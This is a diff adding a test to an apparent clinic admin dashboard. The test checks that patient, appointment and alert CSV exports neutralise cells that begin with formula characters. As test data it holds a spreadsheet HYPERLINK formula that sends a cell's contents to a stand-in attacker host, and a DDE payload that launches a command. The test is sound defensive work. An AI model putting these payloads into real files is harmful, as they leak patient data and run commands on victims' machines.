@@ -141,3 +141,21 @@ def test_alert_facts_snapshot_round_trips_and_failed_jobs_stay_fresh(clinic, at_
     assert again == replace(first, failed_jobs=4)
     assert again.no_show_week == (1, 3) and isinstance(again.no_show_week, tuple)
     assert [a.code for a in alerts.evaluate(again)] == ["jobs_failing"]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open record")'
+
+
+def test_a_patient_named_like_a_formula_is_text_in_every_csv(clinic):
+    """SPEC §22: cells starting with = + - @ are neutralised in the table and alert exports."""
+    from portals.admin.dash_app import alerts_csv
+
+    with unit_of_work(SYSTEM) as uow:
+        uow.session.execute(text("UPDATE users SET full_name = :n WHERE id = :u"), {"n": HYPERLINK, "u": clinic.user("P2")})
+    for table in ("patients", "appointments"):
+        rows = list(csv.DictReader(io.StringIO(listings.listing_csv(SYSTEM, table, "today", now=NOW))))
+        named = [r["patient"] for r in rows if "HYPERLINK" in r["patient"]]
+        assert named and all(cell == "'" + HYPERLINK for cell in named), table
+    feed = [replace(alerts.alert_feed(SYSTEM, now=NOW, failed_jobs=0)[0], title="@SUM(1+1)*cmd|' /C calc'!A0")]
+    [row] = list(csv.DictReader(io.StringIO(alerts_csv(feed))))
+    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
